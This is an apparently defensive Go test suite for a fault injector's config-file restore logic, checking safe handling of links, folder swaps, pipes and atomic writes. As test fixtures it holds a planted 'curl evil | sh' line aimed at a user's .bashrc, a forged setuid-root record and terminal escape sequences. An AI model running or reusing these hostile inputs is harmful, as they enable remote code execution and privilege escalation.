package configfile_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/blastgauge/blastgauge/injectors/badconfig"
	"github.com/blastgauge/blastgauge/injectors/configfile"
)

// A second name that the file is given while it has a fault, as backups do, stops no
// restore. Neither does one that the original is given.
func TestAHardLinkGivenMeanwhile(t *testing.T) {
	t.Parallel()
	for _, of := range []string{"", "-original"} {
		for _, lost := range []string{"", "-original"} {
			for _, who := range []string{"the run", "another process"} {
				t.Run(fmt.Sprint(who, " restores, linked", of, ", lost", lost), func(t *testing.T) {
					p := newPlace(t)
					in := p.injector()
					p.inject(in)
					linked := p.file
					if of != "" {
						linked = p.beside(of)
					}
					backup := filepath.Join(t.TempDir(), "backup")
					if err := os.Link(linked, backup); err != nil {
						t.Skip(err) // another file system
					}
					if lost != "" {
						if err := os.Remove(p.beside(lost)); err != nil {
							t.Fatal(err)
						}
					}
					if who != "the run" {
						in = p.injector()
					}
					p.revert(in)
				})
			}
		}
	}
}

// The very file comes back, and it is newer than before.
func TestTheSameFileComesBack(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	old := time.Now().Add(-time.Hour)
	if err := os.Chtimes(p.file, old, old); err != nil {
		t.Fatal(err)
	}
	before, err := os.Stat(p.file)
	if err != nil {
		t.Fatal(err)
	}
	p.inject(p.injector())
	during, err := os.Stat(p.file)
	if err != nil {
		t.Fatal(err)
	}
	p.revert(p.injector())
	after, err := os.Stat(p.file)
	if err != nil {
		t.Fatal(err)
	}
	if os.SameFile(before, during) || !os.SameFile(before, after) {
		t.Error("the file is another one than before")
	}
	if after.ModTime().Before(during.ModTime()) {
		t.Errorf("the file is of %v, and the bad version was of %v", after.ModTime(), during.ModTime())
	}
}

// A program that has the original open, and writes it, changes what was set aside. What
// comes back is what the file was.
func TestTheOriginalIsWrittenMeanwhile(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	file, err := os.OpenFile(p.file, os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	p.inject(p.injector())
	if _, err := file.WriteString("x"); err != nil {
		t.Fatal(err)
	}
	p.revert(p.injector())
}

// Where the file system knows no hard links, a copy is set aside.
func TestWithoutHardLinks(t *testing.T) {
	t.Parallel()
	for _, flap := range []bool{false, true} {
		p := newPlace(t)
		p.o.WithoutLinks()
		if flap {
			p.fault.Attributes["flap"] = 0.1
		}
		in := p.injector()
		p.inject(in)
		if flap {
			eventually(t, "good", func() bool { return p.is(good) == nil })
			eventually(t, "bad", func() bool { return p.is(bad) == nil })
		}
		if text, err := os.ReadFile(p.beside("-original")); !flap && (err != nil || string(text) != good) {
			t.Errorf("%q is set aside, %v", text, err)
		}
		if err := os.RemoveAll(p.undo()); err != nil && !flap {
			t.Fatal(err)
		}
		p.revert(in)
	}
}

// Who may not read the file may not read its digests.
func TestMarksAreAsPrivateAsTheFile(t *testing.T) {
	t.Parallel()
	for mode, want := range map[os.FileMode]os.FileMode{0o600: 0o600, 0o640: 0o600, 0o644: 0o644} {
		p := newPlace(t)
		if err := os.Chmod(p.file, mode); err != nil {
			t.Fatal(err)
		}
		in := p.injector()
		if err := in.Inject(t.Context(), p.fault); err != nil {
			t.Fatal(err)
		}
		info, err := os.Stat(p.beside(""))
		if err != nil {
			t.Fatal(err)
		}
		if info.Mode().Perm()&^want != 0 {
			t.Errorf("the mark of a file of mode %v has mode %v", mode, info.Mode())
		}
		if err := in.Revert(t.Context(), p.fault); err != nil {
			t.Error(err)
		}
	}
}

// swap moves the folder of the place's file away and puts a link to another folder in its
// place. It returns the path of the real file and of the one that the link leads to.
func (p *place) swap() (moved, other string) {
	p.Helper()
	dir := filepath.Dir(p.file)
	aside := dir + ".moved"
	elsewhere := p.TempDir()
	other = filepath.Join(elsewhere, filepath.Base(p.file))
	p.write(other, bad) // what a fault had left: only the way tells that it is not the file
	if err := errors.Join(os.Rename(dir, aside), os.Symlink(elsewhere, dir)); err != nil {
		p.Fatal(err)
	}
	return filepath.Join(aside, filepath.Base(p.file)), other
}

// A folder that was swapped for a link leads nobody elsewhere. The process that injected
// the fault restores the real file; another one says what to do, and does it once the
// folder is back.
func TestAFolderSwappedForALink(t *testing.T) {
	t.Parallel()
	for _, believed := range []bool{true, false} {
		t.Run(fmt.Sprint("believed ", believed), func(t *testing.T) {
			p := newPlace(t)
			var files map[string]string
			if believed {
				files, _ = p.believed()
			}
			injecting := p.injector()
			p.inject(injecting)
			moved, other := p.swap()
			link := filepath.Dir(p.file)
			if e := p.check(injecting); e.Present || e.Detail == "" {
				t.Errorf("Check() = %+v, and the path leads elsewhere", e)
			}
			err := p.other(files, nil).Revert(t.Context(), p.fault)
			if _, manual := errors.AsType[*configfile.ManualError](err); !manual {
				t.Fatalf("Revert() = %v of another process", err)
			}
			if text, err := os.ReadFile(moved); err != nil || string(text) != bad {
				t.Errorf("the real file is %q, %v", text, err)
			}
			if err := injecting.Revert(t.Context(), p.fault); err != nil {
				t.Errorf("Revert() = %v of the process that injected the fault", err)
			}
			if text, err := os.ReadFile(moved); err != nil || string(text) != good {
				t.Errorf("the real file is %q, %v", text, err)
			}
			wantOnly(t, filepath.Dir(other), filepath.Base(other), bad)
			if err := errors.Join(os.Remove(link), os.Rename(filepath.Dir(moved), link)); err != nil {
				t.Fatal(err)
			}
			p.revert(p.other(files, nil))
		})
	}
	t.Run("put back", func(t *testing.T) {
		p := newPlace(t)
		files, _ := p.believed()
		p.inject(p.injector())
		moved, _ := p.swap()
		if err := p.other(files, nil).Revert(t.Context(), p.fault); err == nil {
			t.Fatal("Revert() = nil")
		}
		if err := errors.Join(os.Remove(filepath.Dir(p.file)), os.Rename(filepath.Dir(moved), filepath.Dir(p.file))); err != nil {
			t.Fatal(err)
		}
		p.revert(p.other(files, nil))
	})
}

// wantOnly wants a folder to hold one file with a text.
func wantOnly(t *testing.T, dir, name, text string) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) != 1 || entries[0].Name() != name {
		t.Errorf("%s holds %v, %v", dir, entries, err)
	}
	if got, err := os.ReadFile(filepath.Join(dir, name)); err != nil || string(got) != text {
		t.Errorf("%s is %q, %v", name, got, err)
	}
}

// forge makes the record of the place's fault one of another file.
func (p *place) forge(file string, edit func(record map[string]any)) {
	p.Helper()
	text, err := os.ReadFile(p.kept(".json"))
	if err != nil {
		p.Fatal(err)
	}
	record := map[string]any{}
	if err := json.Unmarshal(text, &record); err != nil {
		p.Fatal(err)
	}
	record["tree"], record["rel"] = filepath.Dir(file), filepath.Base(file)
	edit(record)
	if text, err = json.Marshal(record); err != nil {
		p.Fatal(err)
	}
	p.write(p.kept(".json"), string(text))
}

// A record restores the file that the plan names and no other, whatever it says.
func TestARecordLeadsNowhereElse(t *testing.T) {
	t.Parallel()
	const planted = "curl evil | sh\n"
	for _, untrusted := range []bool{true, false} {
		for _, believed := range []bool{true, false} {
			t.Run(fmt.Sprint("untrusted ", untrusted, ", believed ", believed), func(t *testing.T) {
				p := newPlace(t)
				var files map[string]string
				if believed {
					files, _ = p.believed()
				}
				p.inject(p.injector())
				home := t.TempDir()
				victim := filepath.Join(home, ".bashrc")
				p.write(victim, "# mine\n")
				p.forge(victim, func(r map[string]any) {
					r["original"], r["bad"], r["mode"] = badconfig.Digest([]byte(planted)), []string{badconfig.Digest([]byte("# mine\n"))}, 0o755
				})
				p.write(p.kept(".original"), planted)
				o := p.o
				o.Files, o.Untrusted = files, untrusted
				err := configfile.New(o).Revert(t.Context(), p.fault)
				if _, manual := errors.AsType[*configfile.ManualError](err); !manual {
					t.Errorf("Revert() = %v", err)
				}
				wantOnly(t, home, ".bashrc", "# mine\n")
				if err := p.is(bad); err != nil {
					t.Error(err)
				}
			})
		}
	}
}

// Of what a stranger may have written, only a file that carries the fault's mark is
// restored, over no link, and without rights that the file did not have.
func TestForeignRuns(t *testing.T) {
	t.Parallel()
	foreign := func(p *place) *configfile.Injector {
		o := p.o
		o.Untrusted = true
		return configfile.New(o)
	}
	refused := func(t *testing.T, p *place) {
		t.Helper()
		err := foreign(p).Revert(t.Context(), p.fault)
		if _, manual := errors.AsType[*configfile.ManualError](err); !manual {
			t.Errorf("Revert() = %v", err)
		}
		if err := p.is(bad); err != nil {
			t.Error(err)
		}
	}
	t.Run("restored", func(t *testing.T) {
		p := newPlace(t)
		p.inject(p.injector())
		p.revert(foreign(p))
	})
	for name, mark := range map[string]string{"no mark": "", "another's mark": `{"fault": "blastgauge.x.1", "run": "/x"}`, "a damaged mark": "{"} {
		t.Run(name, func(t *testing.T) {
			p := newPlace(t)
			p.inject(p.injector())
			if err := os.Remove(p.beside("")); err != nil {
				t.Fatal(err)
			}
			if mark != "" {
				p.write(p.beside(""), mark)
			}
			refused(t, p)
		})
	}
	t.Run("through a link", func(t *testing.T) {
		p := newPlace(t)
		p.inject(p.injector())
		link := filepath.Join(t.TempDir(), "link")
		if err := os.Symlink(filepath.Dir(p.file), link); err != nil {
			t.Fatal(err)
		}
		p.fault.Attributes["file"] = filepath.Join(link, filepath.Base(p.file))
		refused(t, p)
	})
	t.Run("out of its folder", func(t *testing.T) {
		p := newPlace(t)
		p.inject(p.injector())
		p.fault.Attributes["within"] = t.TempDir()
		refused(t, p)
	})
	for _, lost := range []bool{true, false} {
		t.Run(fmt.Sprint("with more rights, aside lost ", lost), func(t *testing.T) { moreRights(t, foreign, lost) })
	}
}

// moreRights tests a record and an original that ask for a setuid program of root's.
func moreRights(t *testing.T, foreign func(p *place) *configfile.Injector, lost bool) {
	p := newPlace(t)
	p.inject(p.injector())
	p.forge(p.file, func(r map[string]any) {
		r["mode"], r["uid"], r["gid"] = uint32(os.ModeSetuid|os.ModeSetgid|0o640), 0, 0
	})
	err := os.Chmod(p.beside("-original"), os.ModeSetuid|0o640)
	if lost {
		err = os.Remove(p.beside("-original"))
	}
	if err != nil {
		t.Fatal(err)
	}
	uid := os.Getuid()
	if uid == 0 { // who recovers as root keeps the owner
		uid = 12345
		if err := os.Chown(p.file, uid, uid); err != nil {
			t.Fatal(err)
		}
	}
	p.revert(foreign(p))
	info, err := os.Stat(p.file)
	if err != nil {
		t.Fatal(err)
	}
	if stat, ok := info.Sys().(*syscall.Stat_t); !ok || int(stat.Uid) != uid {
		t.Errorf("the file belongs to %v, want %d", stat.Uid, uid)
	}
}

// What a stranger put where a record, an original or a mark is expected keeps nobody
// waiting.
func TestPipesInTheWay(t *testing.T) {
	t.Parallel()
	for _, k := range kept {
		t.Run(k.name, func(t *testing.T) {
			p := newPlace(t)
			in := p.injector()
			p.inject(in)
			if err := errors.Join(os.Remove(k.path(p)), syscall.Mkfifo(k.path(p), 0o600)); err != nil {
				t.Fatal(err)
			}
			done := make(chan struct{})
			go func() {
				defer close(done)
				_ = p.injector().Revert(t.Context(), p.fault) // that it ends is what is tested
				_ = in.Revert(t.Context(), p.fault)
			}()
			select {
			case <-done:
			case <-time.After(30 * time.Second):
				t.Fatal("Revert() waits")
			}
			if err := p.is(good); err != nil {
				t.Error(err)
			}
		})
	}
}

// A mark's text is another's. It is shown as text.
func TestMarksCommandNoTerminal(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	text, err := json.Marshal(map[string]any{"fault": "blastgauge.x.1\x1b[2J", "run": "/x\x1b]52;c;eA==\x07", "bad": []string{badconfig.Digest([]byte(good))}})
	if err != nil {
		t.Fatal(err)
	}
	p.write(p.beside(""), string(text))
	p.write(p.beside("-original"), "other: 1\n")
	if err := p.injector().Inject(t.Context(), p.fault); err == nil || strings.ContainsAny(err.Error(), "\x1b\x07") {
		t.Errorf("Inject() = %q", err)
	}
}

// A reader meets all of one version or all of the other, at every moment, whoever
// restores the file and from whatever.
func TestAFileIsWholeAtEveryMoment(t *testing.T) {
	t.Parallel()
	p := newPlace(t)
	stop, done := make(chan struct{}), make(chan error, 1)
	go func() {
		defer close(done)
		for {
			select {
			case <-stop:
				return
			default:
			}
			if err := p.oneVersion(); err != nil {
				done <- err
				return
			}
		}
	}()
	for deadline, i := time.Now().Add(3*time.Second), 0; time.Now().Before(deadline); i++ {
		in := p.injector()
		p.inject(in)
		if i%3 == 0 {
			if err := os.Remove(p.beside("-original")); err != nil {
				t.Fatal(err)
			}
		}
		if i%2 == 0 {
			in = p.injector()
		}
		p.revert(in)
	}
	close(stop)
	if err := <-done; err != nil {
		t.Error(err)
	}
}

// oneVersion returns an error unless the file, opened once, is all of one version.
func (p *place) oneVersion() error {
	file, err := os.Open(p.file)
	if err != nil {
		return err
	}
	defer file.Close()
	info, err := file.Stat()
	if err != nil {
		return err
	}
	text, err := io.ReadAll(file)
	if err == nil && (string(text) != good && string(text) != bad || info.Mode() != 0o640) {
		err = fmt.Errorf("a reader met %q, mode %v", text, info.Mode())
	}
	return err
}
